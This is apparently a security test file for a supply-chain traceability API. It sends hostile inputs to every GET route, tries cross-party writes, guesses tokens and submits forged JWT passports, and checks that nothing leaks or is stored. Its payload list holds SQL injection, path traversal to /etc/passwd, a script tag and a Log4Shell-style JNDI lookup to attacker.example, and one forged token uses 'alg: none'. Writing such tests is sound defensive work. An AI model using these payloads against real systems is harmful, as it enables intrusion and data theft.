// Attacks on the API: SQL-like, path-traversal and oversized strings in every path and query parameter of every
// GET route (from the committed OpenAPI), a party reaching for another party's lots and events through every
// route, token guessing, and forged passports. Never a 500, nothing of the other party in any answer, nothing
// stored.
import { readFileSync } from "node:fs";
import { resolve } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { captureDocument } from "../../src/services/capture.ts";
import { canonicalIdentifier } from "../../src/standards/epcis/identifiers.ts";
import { openTestApi, PARTIES, SITES, type TestApi } from "../helpers/api.ts";
import { makeDocument, makeExtraction } from "../helpers/documents.ts";

const HOSTILE = [
  "' OR '1'='1",
  "1; DROP TABLE events; --",
  "../../../../etc/passwd",
  "..%2F..%2Fetc%2Fpasswd",
  "%00",
  "\u0000",
  "<script>alert(1)</script>",
  "${jndi:ldap://attacker.example/a}",
  "*",
  "%",
  "_",
  "A".repeat(10_000),
];
const EPCIS_QUERY_KEYS = [
  "EQ_bizStep",
  "MATCH_epcClass",
  "MATCH_anyEPC",
  "EQ_readPoint",
  "GE_eventTime",
  "eventType",
  "perPage",
  "nextPageToken",
  "orderBy",
  "EQ_eventID",
];

let api: TestApi;
const secrets: string[] = [];

beforeAll(async () => {
  api = await openTestApi("sqlite");
  const capture = async (organisation: string, site: string, lot: string) => {
    const report = await captureDocument(
      api.t.ledger,
      { document: makeDocument([makeExtraction(0, { lot, location: site })]), organisation },
      { now: () => new Date(), newId: () => crypto.randomUUID() },
    );
    expect(report.rejected).toEqual([]);
    return report.eventHashes;
  };
  const lotA = "urn:epc:class:lgtin:8930000.000011.SECRET-A-1";
  const hashesA = await capture(PARTIES.minerA, SITES.mineA, lotA);
  await capture(PARTIES.minerB, SITES.mineB, "urn:epc:class:lgtin:8930000.000012.B-1");
  secrets.push(canonicalIdentifier(lotA), lotA, "SECRET-A-1", ...hashesA);
});
afterAll(async () => {
  await api.app.close();
  await api.t.dispose();
});

interface Route {
  path: string;
  pathParams: string[];
  queryParams: string[];
}

function getRoutes(): Route[] {
  const spec = JSON.parse(readFileSync(resolve(import.meta.dirname, "../../docs/openapi.json"), "utf8")) as {
    paths: Record<string, Record<string, { parameters?: { name: string; in: string }[] }>>;
  };
  return Object.entries(spec.paths).flatMap(([path, ops]) => {
    const get = ops.get;
    if (!get) return [];
    const params = get.parameters ?? [];
    const queryParams = params.filter((p) => p.in === "query").map((p) => p.name);
    return [
      {
        path,
        pathParams: params.filter((p) => p.in === "path").map((p) => p.name),
        queryParams: queryParams.includes("additionalProperties")
          ? EPCIS_QUERY_KEYS
          : queryParams.filter((q) => q !== "type"),
      },
    ];
  });
}

async function eventCount(): Promise<number> {
  return Number(
    (
      await api.t.ledger.db
        .selectFrom("events")
        .select((eb) => eb.fn.countAll().as("n"))
        .executeTakeFirstOrThrow()
    ).n,
  );
}

describe("attacks on the API", () => {
  it("survives hostile strings in every parameter of every GET route: never a 500, nothing of another party, nothing stored", async () => {
    const routes = getRoutes();
    expect(routes.length).toBeGreaterThan(30);
    const before = await eventCount();
    let requests = 0;
    const leaks: string[] = [];
    for (const route of routes) {
      // Each path parameter takes each hostile value and each of the other party's identifiers.
      const pathValues = route.pathParams.length > 0 ? [...HOSTILE, ...secrets] : ["-"];
      for (const value of pathValues) {
        let path = route.path;
        for (const p of route.pathParams) path = path.replace(`{${p}}`, encodeURIComponent(value));
        const urls = [
          path,
          ...route.queryParams.flatMap((q) => HOSTILE.map((h) => `${path}?${q}=${encodeURIComponent(h)}`)),
        ];
        for (const url of urls) {
          const res = await api.app.inject({
            method: "GET",
            url,
            headers: { authorization: `Bearer ${api.tokens.minerB}` },
          });
          requests++;
          expect(res.statusCode, `${url}: ${res.body.slice(0, 300)}`).toBeLessThan(500);
          // An error may repeat what was asked for; an answer must not hold another party's lots or events.
          if (res.statusCode < 400) {
            for (const secret of secrets) if (res.body.includes(secret)) leaks.push(`${url} → ${secret}`);
          }
        }
      }
    }
    expect(leaks).toEqual([]);
    expect(await eventCount()).toBe(before);
    expect(requests).toBeGreaterThan(1000);
  }, 300_000);

  it("lets no party act on another's data through any write route: 4xx, nothing changed", async () => {
    const findingsBefore = await api.t.ledger.db.selectFrom("findings").selectAll().execute();
    const lotA = secrets[0] as string;
    const writes: [string, unknown][] = [
      [
        "/masterdata",
        { organisations: [{ id: PARTIES.minerA, name: "Taken over", country: "VN", roles: ["miner"] }] },
      ],
      [`/lots/${encodeURIComponent(lotA)}/passport`, {}],
      ["/findings/LICENCE_CAPACITY:DEMO-A:2026/acknowledge", { note: "not mine" }],
      ["/findings/LICENCE_CAPACITY:DEMO-A:2026/resolve", { note: "not mine" }],
      ["/plans", { contract: "OFT-2025-001" }],
      [
        "/news",
        {
          text: "Police prosecute Demo Miner A",
          title: "x",
          publisher: "x",
          url: "https://x.example",
          published: "2026-01-01",
        },
      ],
      ["/sanctions", [{ name: "Demo Miner A", country: "VN", list: "x" }]],
      ["/legal-events/any/close", { note: "x" }],
      ["/legal-events/any/reopen", { note: "x" }],
    ];
    for (const [url, body] of writes) {
      const res = await api.app.inject({
        method: "POST",
        url,
        headers: { authorization: `Bearer ${api.tokens.minerB}`, "content-type": "application/json" },
        payload: JSON.stringify(body),
      });
      expect(res.statusCode, `${url}: ${res.body.slice(0, 200)}`).toBeGreaterThanOrEqual(400);
      expect(res.statusCode, url).toBeLessThan(500);
    }
    const organisations = await api.app.inject({
      method: "GET",
      url: "/organisations",
      headers: { authorization: `Bearer ${api.tokens.regulator}` },
    });
    expect(organisations.body).not.toContain("Taken over");
    expect(await api.t.ledger.db.selectFrom("findings").selectAll().execute()).toEqual(findingsBefore);
    expect(await api.t.ledger.db.selectFrom("passports").selectAll().execute()).toEqual([]);
  });

  it("refuses an address that keeps guessing tokens with 429, valid token or not, for the rest of the minute", async () => {
    const guarded = await openTestApi("sqlite", { failedSignInsPerMinute: 5 });
    try {
      const statuses: number[] = [];
      for (let i = 0; i < 7; i++) {
        const res = await guarded.app.inject({
          method: "GET",
          url: "/epcis/events",
          headers: { authorization: `Bearer guess-${i}-${crypto.randomUUID()}` },
        });
        statuses.push(res.statusCode);
      }
      expect(statuses).toEqual([401, 401, 401, 401, 401, 429, 429]);
      const valid = await guarded.app.inject({
        method: "GET",
        url: "/epcis/events",
        headers: { authorization: `Bearer ${guarded.tokens.minerA}` },
      });
      expect(valid.statusCode).toBe(429);
      expect(valid.json().detail).toContain("too many failed sign-ins from this address");
    } finally {
      await guarded.app.close();
      await guarded.t.dispose();
    }
  });

  it("answers a forged or garbled passport as invalid, never as valid", async () => {
    const forged = [
      "eyJhbGciOiJub25lIn0.eyJ0eXBlIjpbIlZlcmlmaWFibGVDcmVkZW50aWFsIl19.",
      "not a jwt",
      `${Buffer.from(JSON.stringify({ alg: "EdDSA", kid: "did:web:attacker.example#key-1" })).toString("base64url")}.${Buffer.from("{}").toString("base64url")}.${Buffer.alloc(64).toString("base64url")}`,
    ];
    for (const jwt of forged) {
      const res = await api.app.inject({
        method: "POST",
        url: "/verify",
        headers: { authorization: `Bearer ${api.tokens.buyer}`, "content-type": "application/json" },
        payload: JSON.stringify({ verifiableCredential: jwt }),
      });
      expect(res.statusCode, res.body).toBeLessThan(500);
      if (res.statusCode === 200) expect(res.json().valid).toBe(false);
    }
  });
});
